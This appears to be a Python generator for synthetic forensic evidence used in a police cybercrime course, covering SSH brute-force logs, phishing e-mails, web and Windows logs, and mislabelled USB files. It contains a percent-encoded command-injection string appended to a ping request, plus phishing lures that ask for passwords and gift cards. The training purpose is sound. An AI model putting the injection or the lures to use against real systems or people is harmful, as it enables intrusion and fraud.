"""Generate the case files of the Northgate Logistics intrusion (Module 3), deterministically.

Run ``python -m spmu.case_generators.cybercrime`` to rewrite ``courses/cybercrime/data/``. The story: a phishing
e-mail (30 Dec 2024) harvests the password of the employee L. Brandt; the attacker logs in to the staff portal,
reads the deployment notes, brute-forces the ``deploy`` account on the SSH server ``web1`` just after midnight
on New Year's Eve (local time), and tries to move on to the file server.

Everything is synthetic: documentation IP ranges (RFC 5737, RFC 3849), example.* domains (RFC 2606), invented
people, fixed timestamps, ``random.Random(SEED)`` for the background noise, placeholder files that only carry
the first bytes (signatures) of real formats and are not usable documents or programs.

Planted cases (what the exercises must find) and controls (what they must NOT flag) are listed in the comments
next to the code that writes them.
"""

from __future__ import annotations

import base64
import csv
import hashlib
import io
import json
import random
import struct
import zipfile
import zlib
from datetime import datetime, timedelta
from pathlib import Path
from zoneinfo import ZoneInfo

from courses.data import data_dir, write_manifest

SEED = 20241230
SERVER_ZONE = ZoneInfo("Europe/Amsterdam")  # web1 writes syslog in local time without a zone (RFC 3164)
UTC = ZoneInfo("UTC")
HOST = "web1"
MONTHS = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"]

# --- auth.log: planted SSH attackers (fail2ban defaults: maxretry = 5, findtime = 600 s) ------------------------
FAST_BRUTE = "203.0.113.45"  # 300 failures in ~15 min: flagged
SPRAY = "198.51.100.77"  # one password for each of 80 user names, every 25 s: flagged
SLOW = "192.0.2.200"  # one failure every 25 min for 4 days: NOT flagged (why fail2ban misses it)
ATTACKER = "203.0.113.99"  # 14 failures for deploy at 23:57 on 31 Dec, success at 00:02 on 1 Jan: compromised
IPV6_BRUTE = "2001:db8:bad:1::66"  # 9 failures in 90 s: flagged
AT_THRESHOLD = "198.51.100.23"  # 5 failures spanning exactly 600 s: flagged (the window is inclusive)
JUST_OUTSIDE = "198.51.100.24"  # 5 failures spanning 601 s: NOT flagged
ADMIN_TYPO = "192.0.2.10"  # 4 typos then a success: NOT flagged, NOT compromised
EARLY_SUCCESS = (
    "198.51.100.150"  # a success on 29 Dec, then 6 quick failures on 2 Jan: flagged, NOT compromised
)
DISTRIBUTED_SPRAY = [
    f"198.51.100.{n}" for n in range(130, 140)
]  # 3 failures each, an hour apart: NOT flagged
DECOY_USER_IP = "203.0.113.250"  # appears only as a user NAME (a decoy for "first IP on the line" parsing)

START_LOCAL = datetime(2024, 12, 29, 0, 0, 0)
END_LOCAL = datetime(2025, 1, 2, 23, 59, 0)

COMMON_USERS = [
    "root",
    "admin",
    "test",
    "oracle",
    "ubuntu",
    "pi",
    "postgres",
    "git",
    "user",
    "guest",
    "ftp",
    "support",
    "mysql",
    "www",
    "jenkins",
    "backup",
    "ansible",
    "dev",
    "info",
    "webmaster",
]
REAL_USERS = {"root", "deploy", "sysop", "backup", "ci"}


def _syslog_stamp(local: datetime) -> str:
    """``Mmm dd hh:mm:ss`` with a space-padded day, as rsyslog's traditional format writes it."""
    return f"{MONTHS[local.month - 1]} {local.day:>2} {local:%H:%M:%S}"


class _AuthLog:
    """Collects (local time, text) lines and writes them in time order."""

    def __init__(self, rng: random.Random) -> None:
        self.rng = rng
        self.lines: list[tuple[datetime, int, str]] = []
        self.pid = 1000

    def add(self, local: datetime, message: str, program: str = "sshd", pid: int | None = None) -> None:
        if pid is None:
            self.pid += self.rng.randint(1, 40)
            pid = self.pid
        self.lines.append(
            (local, len(self.lines), f"{_syslog_stamp(local)} {HOST} {program}[{pid}]: {message}")
        )

    def failure(self, local: datetime, user: str, ip: str) -> None:
        port = self.rng.randint(32768, 60999)
        self.pid += self.rng.randint(1, 40)
        pid = self.pid
        if user not in REAL_USERS:
            self.add(local, f"Invalid user {user} from {ip} port {port}", pid=pid)
            self.add(local, f"Failed password for invalid user {user} from {ip} port {port} ssh2", pid=pid)
            self.add(
                local + timedelta(seconds=1),
                f"Connection closed by invalid user {user} {ip} port {port} [preauth]",
                pid=pid,
            )
        else:
            self.add(
                local,
                "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= "
                f"rhost={ip}  user={user}",
                pid=pid,
            )
            self.add(local, f"Failed password for {user} from {ip} port {port} ssh2", pid=pid)
            self.add(
                local + timedelta(seconds=1),
                f"Disconnected from authenticating user {user} {ip} port {port} [preauth]",
                pid=pid,
            )

    def success(self, local: datetime, user: str, ip: str, method: str = "password") -> None:
        port = self.rng.randint(32768, 60999)
        self.pid += self.rng.randint(1, 40)
        pid = self.pid
        suffix = (
            " ssh2"
            if method == "password"
            else " ssh2: ED25519 SHA256:q0Ex4mPLeK3yF1ng3rPr1nTf0rTra1n1ngOnLy000"
        )
        self.add(local, f"Accepted {method} for {user} from {ip} port {port}{suffix}", pid=pid)
        self.add(
            local, f"pam_unix(sshd:session): session opened for user {user}(uid=1001) by (uid=0)", pid=pid
        )

    def text(self) -> str:
        return "".join(line + "\n" for _, _, line in sorted(self.lines))


def _auth_log(rng: random.Random) -> bytes:
    log = _AuthLog(rng)
    # Background: cron every 10 minutes, nightly key-based backups, the admin's and the CI's logins.
    t = START_LOCAL
    while t <= END_LOCAL:
        pid = 20000 + (t.day * 1440 + t.hour * 60 + t.minute) % 9000
        log.add(
            t + timedelta(seconds=1),
            "pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)",
            program="CRON",
            pid=pid,
        )
        log.add(
            t + timedelta(seconds=2),
            "pam_unix(cron:session): session closed for user root",
            program="CRON",
            pid=pid,
        )
        t += timedelta(minutes=10)
    for day in range(5):
        base = START_LOCAL + timedelta(days=day)
        log.success(
            base + timedelta(hours=2, seconds=rng.randint(0, 50)), "backup", "192.0.2.11", "publickey"
        )
        log.success(base + timedelta(hours=9, minutes=rng.randint(0, 30)), "sysop", ADMIN_TYPO, "publickey")
    # Internet background: scanners with 1-3 failures each, far apart (never 5 within 600 s).
    reserved = {
        FAST_BRUTE,
        SPRAY,
        SLOW,
        ATTACKER,
        AT_THRESHOLD,
        JUST_OUTSIDE,
        ADMIN_TYPO,
        EARLY_SUCCESS,
        DECOY_USER_IP,
        "192.0.2.11",
        "192.0.2.50",
        *DISTRIBUTED_SPRAY,
    }
    scanners = sorted({f"{net}.{rng.randint(1, 254)}" for net in ["203.0.113", "198.51.100"] * 30} - reserved)
    span = int((END_LOCAL - START_LOCAL).total_seconds())
    for ip in scanners:
        for _ in range(rng.randint(1, 3)):
            log.failure(START_LOCAL + timedelta(seconds=rng.randint(0, span)), rng.choice(COMMON_USERS), ip)
    # Planted: fast brute-forcer, 300 failures every 2-4 s from 03:10 on 29 Dec.
    t = datetime(2024, 12, 29, 3, 10, 0)
    for _ in range(300):
        log.failure(t, rng.choice(COMMON_USERS), FAST_BRUTE)
        t += timedelta(seconds=rng.randint(2, 4))
    # Planted: password spray from one address, 80 different user names, one try each every 25 s.
    t = datetime(2024, 12, 30, 14, 0, 0)
    for n in range(80):
        log.failure(
            t + timedelta(seconds=25 * n), f"{COMMON_USERS[n % len(COMMON_USERS)]}{n // 20 or ''}", SPRAY
        )
    # Control: a distributed spray, 10 addresses with 3 tries each, 20 minutes apart: no single address is flagged.
    for k, ip in enumerate(DISTRIBUTED_SPRAY):
        for n in range(3):
            log.failure(datetime(2024, 12, 30, 18, k * 5, 0) + timedelta(minutes=20 * n), COMMON_USERS[k], ip)
    # Control (lesson): low-and-slow guessing, one failure every 25 minutes for 4 days.
    t = datetime(2024, 12, 29, 1, 0, 0)
    while t < datetime(2025, 1, 2, 1, 0, 0):
        log.failure(t, rng.choice(["root", "admin", "deploy"]), SLOW)
        t += timedelta(minutes=25)
    # Boundary controls: exactly 600 s (flagged) and 601 s (not flagged) between the 1st and the 5th failure.
    for offset in [0, 150, 300, 450, 600]:
        log.failure(datetime(2024, 12, 30, 9, 0, 0) + timedelta(seconds=offset), "admin", AT_THRESHOLD)
    for offset in [0, 150, 300, 450, 601]:
        log.failure(datetime(2024, 12, 30, 10, 0, 0) + timedelta(seconds=offset), "admin", JUST_OUTSIDE)
    # Control: the admin mistypes 4 times, then logs in (not a suspect, so not compromised).
    for n in range(4):
        log.failure(datetime(2025, 1, 2, 8, 30, 0) + timedelta(seconds=10 * n), "sysop", ADMIN_TYPO)
    log.success(datetime(2025, 1, 2, 8, 30, 50), "sysop", ADMIN_TYPO)
    # Control: a CI runner logs in on 29 Dec, later misbehaves (6 failures in 60 s): suspect, success was EARLIER.
    log.success(datetime(2024, 12, 29, 12, 0, 0), "ci", EARLY_SUCCESS)
    for n in range(6):
        log.failure(datetime(2025, 1, 2, 2, 0, 0) + timedelta(seconds=10 * n), "ci", EARLY_SUCCESS)
    # Planted: the intrusion. 14 failures for deploy from 23:57:10 on 31 Dec, success at 00:02:41 on 1 Jan (local):
    # the success is only "later" if the December -> January rollover of the syslog year is handled.
    for n in range(14):
        log.failure(datetime(2024, 12, 31, 23, 57, 10) + timedelta(seconds=9 * n), "deploy", ATTACKER)
    log.success(datetime(2025, 1, 1, 0, 2, 41), "deploy", ATTACKER)
    # Planted: an IPv6 brute-forcer, 9 failures in 90 s.
    for n in range(9):
        log.failure(datetime(2025, 1, 1, 5, 0, 0) + timedelta(seconds=10 * n), "root", IPV6_BRUTE)
    # Decoy: an IP address used as a user NAME; the connecting address is 192.0.2.50 (one failure only).
    log.failure(datetime(2024, 12, 30, 12, 0, 0), DECOY_USER_IP, "192.0.2.50")
    text = log.text().encode("utf-8")
    # Malformed lines (counted and skipped): two syslog writes interleaved, a line cut off, an impossible date.
    bad = [
        b"Dec 30 11:2Dec 30 11:20:01 web1 sshd[4410]: Failed password for root from 198.51.100.9 port 1 ssh2\n",
        b"Jan  1 03:1\n",
        b"Dec 32 04:00:00 web1 sshd[4411]: Failed password for root from 198.51.100.9 port 2 ssh2\n",
    ]
    # Non-UTF-8 bytes in a user name (sent by a scanner): the line is valid, the name decodes with U+FFFD.
    odd = (
        b"Dec 31 04:11:09 web1 sshd[4412]: Failed password for invalid user \xff\xfeadm from 198.51.100.201 "
        b"port 40001 ssh2\n"
    )
    lines = text.splitlines(keepends=True)
    for position, extra in zip([400, 1500, 2600], bad):
        lines.insert(position, extra)
    lines.insert(next(n for n, line in enumerate(lines) if line.startswith(b"Dec 31 04:2")), odd)
    return b"".join(lines)


# --- e-mail: a dozen messages as delivered to the mailbox server ----------------------------------------------------
MX1 = "mx1.northgate.example.com"
MX2 = "mx2.northgate.example.com"
MAILBOX = "mail.northgate.example.com"


def _hop(from_host: str, ip: str, by: str, when: str, extra: str = "with ESMTPS") -> str:
    return f"Received: from {from_host} ({from_host} [{ip}])\r\n\tby {by} (Postfix) {extra} id 4Y{zlib.crc32(when.encode()) % 97:02d};\r\n\t{when}\r\n"


def _inner(mx: str, when: str) -> str:
    ip = "192.0.2.25" if mx == MX1 else "192.0.2.26"
    return (
        f"Received: from {mx} ({mx} [{ip}])\r\n\tby {MAILBOX} (Postfix) with ESMTP id 4YA1;\r\n\t{when}\r\n"
    )


def _message(headers: str, subject: str, body: str) -> bytes:
    text = (
        headers
        + f"Subject: {subject}\r\nMIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n{body}\r\n"
    )
    return text.encode("utf-8")


def _emails() -> dict[str, bytes]:
    """Twelve messages; comments give the planted answer of each."""
    to = "To: Lena Brandt <l.brandt@northgate.example.com>\r\n"
    mails: dict[str, bytes] = {}
    # 01 Planted phish: look-alike domain (authenticates fine!), Reply-To elsewhere, two forged lower Received lines.
    # Origin as seen by our MX: 203.0.113.17; the bottom line's 198.51.100.3 is forged.
    mails["01_invoice_overdue.eml"] = _message(
        _inner(MX1, "Mon, 30 Dec 2024 16:40:13 +0100")
        + f"Authentication-Results: {MX1};\r\n\tspf=pass smtp.mailfrom=northgate-billing.example.net;\r\n"
        "\tdkim=pass header.d=northgate-billing.example.net;\r\n\tdmarc=pass header.from=northgate-billing.example.net\r\n"
        + _hop("mail.northgate-billing.example.net", "203.0.113.17", MX1, "Mon, 30 Dec 2024 16:40:12 +0100")
        + "Received: from [192.0.2.99] (helo=secure.bank.example.org)\r\n\tby mail.northgate-billing.example.net"
        " with ESMTPA;\r\n\tMon, 30 Dec 2024 09:38:01 -0600\r\n"
        + "Received: from trusted-relay.example.org ([198.51.100.3])\r\n\tby secure.bank.example.org;\r\n"
        "\tMon, 30 Dec 2024 15:30:00 +0000\r\n"
        + "From: Accounts Payable <ap@northgate-billing.example.net>\r\n"
        + "Reply-To: Payments Team <payments@example.org>\r\n"
        + to
        + "Date: Mon, 30 Dec 2024 16:39:58 +0100\r\nMessage-ID: <inv2291@northgate-billing.example.net>\r\n",
        "Overdue invoice INV-2291 - action required today",
        "Dear colleague,\r\n\r\nInvoice INV-2291 is overdue. Sign in at the portal link below to confirm payment.\r\n"
        "http://northgate-billing.example.net/portal/login\r\n\r\nAccounts Payable",
    )
    # 02 Own domain spoofed from 198.51.100.66: SPF softfail, DMARC fail; Reply-To on a look-alike help-desk domain.
    mails["02_password_expiry.eml"] = _message(
        _inner(MX1, "Mon, 30 Dec 2024 10:05:03 +0100")
        + f"Authentication-Results: {MX1}; spf=softfail smtp.mailfrom=northgate.example.com; dkim=none;\r\n"
        "\tdmarc=fail header.from=northgate.example.com\r\n"
        + _hop("smtp.bulk.example.net", "198.51.100.66", MX1, "Mon, 30 Dec 2024 10:05:02 +0100")
        + "From: Northgate Service Desk <servicedesk@northgate.example.com>\r\n"
        + "Reply-To: servicedesk@northgate-helpdesk.example.org\r\n"
        + to
        + "Date: Mon, 30 Dec 2024 10:04:40 +0100\r\n",
        "Your password expires today",
        "Reply with your current password to keep it.\r\n",
    )
    # 03 Display-name spoofing: the display name is an address, the real address is a free-mail one. No Reply-To.
    mails["03_ceo_request.eml"] = _message(
        _inner(MX1, "Sun, 29 Dec 2024 21:12:45 +0100")
        + f"Authentication-Results: {MX1}; spf=pass smtp.mailfrom=example.net; dkim=pass header.d=example.net;\r\n"
        "\tdmarc=pass header.from=example.net\r\n"
        + _hop("out.example.net", "198.51.100.71", MX1, "Sun, 29 Dec 2024 21:12:44 +0100")
        + 'From: "ceo@northgate.example.com" <m.keller.private@example.net>\r\n'
        + to
        + "Date: Sun, 29 Dec 2024 21:12:30 +0100\r\n",
        "Quick favour",
        "Are you at your desk? I need gift cards for a client today.\r\n",
    )
    # 04 Control: a real newsletter; Reply-To differs in mailbox only (same domain): NOT a mismatch.
    mails["04_newsletter.eml"] = _message(
        _inner(MX1, "Sat, 28 Dec 2024 07:00:09 +0100")
        + f"Authentication-Results: {MX1}; spf=pass smtp.mailfrom=example.com; dkim=pass header.d=example.com;\r\n"
        "\tdmarc=pass header.from=example.com\r\n"
        + _hop("news.example.com", "192.0.2.140", MX1, "Sat, 28 Dec 2024 07:00:08 +0100")
        + "From: Logistics Weekly <news@example.com>\r\nReply-To: feedback@example.com\r\n"
        + to
        + "Date: Sat, 28 Dec 2024 06:59:50 +0100\r\n",
        "Logistics Weekly: year in review",
        "Our review of the year in freight.\r\n",
    )
    # 05 Control: Reply-To with the same domain in capitals: NOT a mismatch (domains are case-insensitive).
    mails["05_supplier_reply.eml"] = _message(
        _inner(MX1, "Fri, 27 Dec 2024 15:20:31 +0100")
        + f"Authentication-Results: {MX1}; spf=pass smtp.mailfrom=supplier.example.org;\r\n"
        "\tdkim=pass header.d=supplier.example.org; dmarc=pass header.from=supplier.example.org\r\n"
        + _hop("mx.supplier.example.org", "198.51.100.40", MX1, "Fri, 27 Dec 2024 15:20:30 +0100")
        + "From: orders@supplier.example.org\r\nReply-To: Orders Team <ORDERS@SUPPLIER.EXAMPLE.ORG>\r\n"
        + to
        + "Date: Fri, 27 Dec 2024 15:20:00 +0100\r\n",
        "Re: pallet order 4471",
        "Confirmed for 6 January.\r\n",
    )
    # 06 Came in through the old backup MX, which does not authenticate: the only Authentication-Results header
    # was written by the sender's own server (authserv-id mx.example.net) and must be ignored -> all "none".
    mails["06_shipping_notice.eml"] = _message(
        _inner(MX2, "Mon, 30 Dec 2024 11:47:20 +0100")
        + _hop("relay.example.net", "203.0.113.80", MX2, "Mon, 30 Dec 2024 11:47:19 +0100")
        + "Authentication-Results: mx.example.net; spf=pass; dkim=pass; dmarc=pass\r\n"
        + "From: Parcel Service <notify@parcels.example.net>\r\n"
        + to
        + "Date: Mon, 30 Dec 2024 11:47:00 +0100\r\n",
        "Parcel held at depot",
        "Pay the customs fee at http://parcels.example.net/fee\r\n",
    )
    # 07 Control: a partner sending over IPv6.
    mails["07_partner_ipv6.eml"] = _message(
        _inner(MX1, "Fri, 27 Dec 2024 09:02:11 +0100")
        + f"Authentication-Results: {MX1}; spf=pass smtp.mailfrom=partner.example.org;\r\n"
        "\tdkim=pass header.d=partner.example.org; dmarc=pass header.from=partner.example.org\r\n"
        + _hop("mail.partner.example.org", "IPv6:2001:db8:5::25", MX1, "Fri, 27 Dec 2024 09:02:10 +0100")
        + "From: Tomas Lindqvist <t.lindqvist@partner.example.org>\r\n"
        + to
        + "Date: Fri, 27 Dec 2024 09:01:55 +0100\r\n",
        "Delivery schedule January",
        "Schedule attached as agreed.\r\n",
    )
    # 09 Internal message straight from a workstation to the mailbox server (no MX hop, no authentication).
    mails["09_internal_memo.eml"] = _message(
        _hop(
            "ws-017.northgate.example.com",
            "192.0.2.61",
            MAILBOX,
            "Tue, 31 Dec 2024 08:15:00 +0100",
            extra="with ESMTPSA",
        )
        + "From: Lena Brandt <l.brandt@northgate.example.com>\r\nTo: it@northgate.example.com\r\n"
        + "Date: Tue, 31 Dec 2024 08:14:51 +0100\r\n",
        "Odd invoice e-mail yesterday",
        "I clicked the invoice link yesterday and typed my password. Sorry!\r\n",
    )
    # 10 Non-UTF-8 byte (Latin-1 e-acute) in the Subject, sent by an old system; times in -0500.
    latin = _message(
        _inner(MX1, "Sat, 28 Dec 2024 17:30:02 +0100")
        + f"Authentication-Results: {MX1}; spf=pass smtp.mailfrom=example.org; dkim=none; dmarc=none\r\n"
        + _hop("legacy.example.org", "198.51.100.90", MX1, "Sat, 28 Dec 2024 17:30:01 +0100")
        + "Received: from pc12.legacy.example.org ([198.51.100.91])\r\n\tby legacy.example.org;\r\n"
        "\tSat, 28 Dec 2024 11:29:55 -0500\r\n"
        + "From: Caf\u00e9 Bookings <bookings@example.org>\r\n"
        + to
        + "Date: Sat, 28 Dec 2024 11:29:50 -0500\r\n",
        "R\u00e9servation confirm\u00e9e",
        "Table for 12 on 10 January.\r\n",
    )
    mails["10_latin1_booking.eml"] = latin.replace(
        "R\u00e9servation confirm\u00e9e".encode("utf-8"), "R\u00e9servation confirm\u00e9e".encode("latin-1")
    )
    # 11 Second phish of the same campaign: same origin 203.0.113.17 under three forged lines, the lowest one
    # pretending to come from OUR mx1 (read bottom-up, it looks internal); Reply-To elsewhere.
    mails["11_invoice_reminder.eml"] = _message(
        _inner(MX1, "Tue, 31 Dec 2024 09:12:06 +0100")
        + f"Authentication-Results: {MX1}; spf=pass smtp.mailfrom=northgate-billing.example.net;\r\n"
        "\tdkim=pass header.d=northgate-billing.example.net; dmarc=pass header.from=northgate-billing.example.net\r\n"
        + _hop("mail.northgate-billing.example.net", "203.0.113.17", MX1, "Tue, 31 Dec 2024 09:12:05 +0100")
        + "Received: from mail.example.com ([192.0.2.150])\r\n\tby mail.northgate-billing.example.net;\r\n"
        "\tTue, 31 Dec 2024 03:11:00 -0500\r\n"
        + "Received: from mail.example.com ([192.0.2.151])\r\n\tby mail.example.com;\r\n"
        "\tTue, 31 Dec 2024 08:10:00 +0000\r\n"
        + "Received: from localhost ([198.51.100.5])\r\n\tby mx1.northgate.example.com;\r\n"
        "\tTue, 31 Dec 2024 08:09:00 +0000\r\n"
        + "From: Accounts Payable <ap@northgate-billing.example.net>\r\nReply-To: payments@example.org\r\n"
        + to
        + "Date: Tue, 31 Dec 2024 09:11:40 +0100\r\n",
        "REMINDER: invoice INV-2291",
        "Second reminder. Sign in today to avoid a late fee.\r\n",
    )
    # 08 Truncated on export: the file stops inside the second Received header (no date, no IP closing bracket).
    full = _message(
        _inner(MX1, "Sun, 29 Dec 2024 13:03:33 +0100")
        + _hop("mx.shop.example.com", "198.51.100.120", MX1, "Sun, 29 Dec 2024 13:03:32 +0100")
        + "From: Shop <orders@shop.example.com>\r\n"
        + to
        + "Date: Sun, 29 Dec 2024 13:03:00 +0100\r\n",
        "Your order",
        "Thank you for your order.\r\n",
    )
    mails["08_truncated_export.eml"] = full[: full.index(b"198.51.100.120") + 9]
    # 12 Empty export (0 bytes).
    mails["12_empty_export.eml"] = b""
    return dict(sorted(mails.items()))


# --- web server access log (Apache combined format, server clock in Europe/Amsterdam, so +0100) -------------------
def _apache_stamp(local: datetime) -> str:
    return f"[{local:%d}/{MONTHS[local.month - 1]}/{local:%Y:%H:%M:%S} +0100]"


def _access_log(rng: random.Random) -> bytes:
    agents = [
        '"Mozilla/5.0 (Windows NT 10.0; Win64; x64)"',
        '"Mozilla/5.0 (X11; Linux x86_64)"',
        '"curl/8.5.0"',
    ]
    pages = [
        "/",
        "/login",
        "/news",
        "/timesheets",
        "/docs/handbook.pdf",
        "/static/site.css",
        "/static/logo.png",
    ]
    staff = [f"192.0.2.{n}" for n in range(60, 80)]
    rows: list[tuple[datetime, str]] = []
    t = datetime(2024, 12, 30, 7, 0, 0)
    while t < datetime(2025, 1, 1, 2, 0, 0):
        ip = rng.choice(staff)
        page = rng.choice(pages)
        rows.append(
            (
                t,
                (
                    f'{ip} - - {_apache_stamp(t)} "GET {page} HTTP/1.1" 200 {rng.randint(300, 9000)} "-" '
                    f"{rng.choice(agents)}"
                ),
            )
        )
        t += timedelta(seconds=rng.randint(60, 400))
    # Planted: the attacker uses the phished password of l.brandt on the staff portal, then reads deploy notes and
    # tries an encoded command in a query string (percent-encoded; decode_command reveals it).
    attack = [
        (
            datetime(2024, 12, 31, 23, 10, 4),
            f'{ATTACKER} - - {{}} "POST /login HTTP/1.1" 302 0 "-" {agents[0]}',
        ),
        (
            datetime(2024, 12, 31, 23, 10, 5),
            f'{ATTACKER} - lbrandt {{}} "GET / HTTP/1.1" 200 5120 "-" {agents[0]}',
        ),
        (
            datetime(2024, 12, 31, 23, 12, 40),
            f'{ATTACKER} - lbrandt {{}} "GET /docs/deploy-notes.txt HTTP/1.1" 200 1834 "-" {agents[0]}',
        ),
        (
            datetime(2024, 12, 31, 23, 14, 2),
            (
                f'{ATTACKER} - lbrandt {{}} "GET /tools/ping?host=192.0.2.1%3B%20id%3B%20uname%20-a HTTP/1.1" 403 199 "-" '
                f"{agents[2]}"
            ),
        ),
    ]
    rows += [(when, text.format(_apache_stamp(when))) for when, text in attack]
    lines = [text + "\n" for _, text in sorted(rows)]
    lines.insert(150, "198.51.100.7 - - [30/Dec/2024:13:2\n")  # malformed: cut off mid-timestamp
    return "".join(lines).encode("utf-8")


# --- Windows security events exported as CSV, already in UTC (TimeCreated with Z) -----------------------------------
def _windows_logons() -> str:
    rows = [
        ("2024-12-30T07:58:12Z", 4624, "WS-017", "lbrandt", 2, "-"),
        (
            "2024-12-30T15:47:55Z",
            4624,
            "WS-017",
            "lbrandt",
            7,
            "-",
        ),  # unlocks her PC, reads the phish at 15:40 UTC
        ("2024-12-30T17:02:10Z", 4634, "WS-017", "lbrandt", 7, "-"),
        ("2024-12-31T07:20:31Z", 4624, "WS-017", "lbrandt", 2, "-"),
        ("2024-12-31T12:05:00Z", 4634, "WS-017", "lbrandt", 2, "-"),
        (
            "2024-12-31T23:15:02Z",
            4625,
            "FILE01",
            "administrator",
            3,
            "192.0.2.50",
        ),  # from web1 after compromise
        ("2024-12-31T23:15:09Z", 4625, "FILE01", "administrator", 3, "192.0.2.50"),
        ("2024-12-31T23:16:40Z", 4624, "FILE01", "lbrandt", 3, "192.0.2.50"),  # phished password re-used
        ("2025-01-01T00:41:13Z", 4634, "FILE01", "lbrandt", 3, "192.0.2.50"),
        ("2025-01-02T08:01:44Z", 4624, "WS-017", "lbrandt", 2, "-"),
    ]
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(["TimeCreated", "EventID", "Computer", "TargetUserName", "LogonType", "IpAddress"])
    writer.writerows(rows)
    return out.getvalue()


# Key events of the incident for the timeline exercise, with each source's raw time text.
KEY_EVENTS = [
    {
        "event_id": "MAIL-1",
        "source": "mail",
        "raw_time": "Mon, 30 Dec 2024 16:40:12 +0100",
        "what": "phishing e-mail 01 accepted by mx1",
    },
    {
        "event_id": "WIN-1",
        "source": "windows",
        "raw_time": "2024-12-30T15:47:55Z",
        "what": "L. Brandt unlocks workstation WS-017",
    },
    {
        "event_id": "WEB-1",
        "source": "apache",
        "raw_time": "[31/Dec/2024:23:10:04 +0100]",
        "what": "portal login as lbrandt from 203.0.113.99",
    },
    {
        "event_id": "WEB-2",
        "source": "apache",
        "raw_time": "[31/Dec/2024:23:12:40 +0100]",
        "what": "deploy-notes.txt downloaded",
    },
    {
        "event_id": "SSH-1",
        "source": "syslog",
        "raw_time": "Dec 31 23:57:10",
        "what": "first failed SSH password for deploy from 203.0.113.99",
    },
    {
        "event_id": "SSH-2",
        "source": "syslog",
        "raw_time": "Jan  1 00:02:41",
        "what": "SSH login accepted for deploy from 203.0.113.99",
    },
    {
        "event_id": "WIN-2",
        "source": "windows",
        "raw_time": "2024-12-31T23:15:02Z",
        "what": "failed logon as administrator on FILE01 from web1",
    },
    {
        "event_id": "WIN-3",
        "source": "windows",
        "raw_time": "2024-12-31T23:16:40Z",
        "what": "logon as lbrandt on FILE01 from web1",
    },
]


# --- seized USB stick: ~30 placeholder files whose names do and do not match their first bytes -------------------
def _png() -> bytes:
    """A 1x1 grey PNG with a stored (uncompressed) deflate block, identical on every zlib build."""
    raw = b"\x00\x80"
    stored = (
        b"\x78\x01\x01"
        + struct.pack("<HH", len(raw), 0xFFFF ^ len(raw))
        + raw
        + struct.pack(">I", zlib.adler32(raw))
    )

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0))
        + chunk(b"IDAT", stored)
        + chunk(b"IEND", b"")
    )


def _zip(members: dict[str, str]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as archive:
        for name, text in members.items():
            archive.writestr(zipfile.ZipInfo(name, date_time=(2024, 12, 1, 9, 0, 0)), text)
    return buffer.getvalue()


PDF = b"%PDF-1.4\n% placeholder document for police training\n1 0 obj << >> endobj\ntrailer << >>\n%%EOF\n"
JPEG = (
    b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
    + b"training placeholder"
    + b"\xff\xd9"
)
GIF89 = b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xf9\x04\x01\x00\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"
EXE = b"MZ\x90\x00\x03\x00\x00\x00" + bytes(56) + b"PLACEHOLDER for police training - not a program\n"
ELF = b"\x7fELF\x02\x01\x01\x00" + bytes(56) + b"PLACEHOLDER for police training - not a program\n"


def _usb_files() -> dict[str, bytes]:
    office = _zip(
        {"[Content_Types].xml": "<Types/>", "word/document.xml": "<document>placeholder</document>"}
    )
    files = {
        "quarterly_report.pdf": PDF,
        "invoice_INV-2291.pdf": EXE + b"1",  # MISMATCH: a program disguised as the phishing invoice
        "logo.png": _png(),
        "team_photo.JPG": JPEG,  # control: upper-case extension, real JPEG
        "scan_0001.jpeg": JPEG + b"2",
        "SCAN_0002.JPG": PDF + b"scan 2\n",  # MISMATCH: upper-case extension hides a PDF
        "holiday.jpg": _zip({"notes.txt": "placeholder archive"}),  # MISMATCH: archive named as a photo
        "banner.gif": GIF89,
        "old_scan.gif": b"GIF87a" + GIF89[6:],  # control: the older GIF87a signature
        "animation.gif": _png() + b"3",  # MISMATCH: PNG named .gif
        "contract.docx": office,  # control: Office files are ZIP containers
        "budget_2025.xlsx": _zip({"[Content_Types].xml": "<Types/>", "xl/workbook.xml": "<workbook/>"}),
        "minutes.DOCX": _zip({"[Content_Types].xml": "<Types/>", "word/document.xml": "<minutes/>"}),
        "slides.pptx": PDF + b"slides\n",  # MISMATCH: a PDF named as a presentation
        "backup.zip": _zip({"backup/readme.txt": "placeholder"}),
        "archive.zip": b"PK\x05\x06"
        + bytes(18),  # control: an EMPTY zip archive (end-of-directory record only)
        "tool.exe": EXE + b"4",
        "helper.dll": EXE + b"5",
        "notes.txt": b"Meeting notes: order more pallets.\n",
        "readme.txt": ELF + b"6",  # MISMATCH: a Linux program named .txt
        "letter.txt": b"PK Jansen, thank you for your letter of 12 December.\n",  # control: text starting "PK"
        "payload.log": EXE + b"7",  # MISMATCH: a Windows program named .log
        "access.log": b'192.0.2.61 - - [30/Dec/2024:08:00:00 +0100] "GET / HTTP/1.1" 200 512\n',
        "data.csv": b"item,count\npallet,12\n",
        "photo_upload.png": JPEG + b"8",  # MISMATCH: a JPEG named .png
        "corrupt.jpg": b"\xff\xd8\x00\x00"
        + b"damaged placeholder",  # MISMATCH: starts like JPEG but is not one
        "empty.pdf": b"",  # MISMATCH: an empty file is not a PDF
        "empty.txt": b"",  # control: an empty text file is fine
        "firmware.bin": ELF + b"9",  # control: .bin promises nothing, so nothing mismatches
        "no_extension": PDF + b"x\n",  # control: no extension, nothing to compare
    }
    return dict(sorted(files.items()))


def _known_hashes(usb: dict[str, bytes]) -> str:
    """A reference hash set as a partner CERT might send it: messy formatting on purpose."""
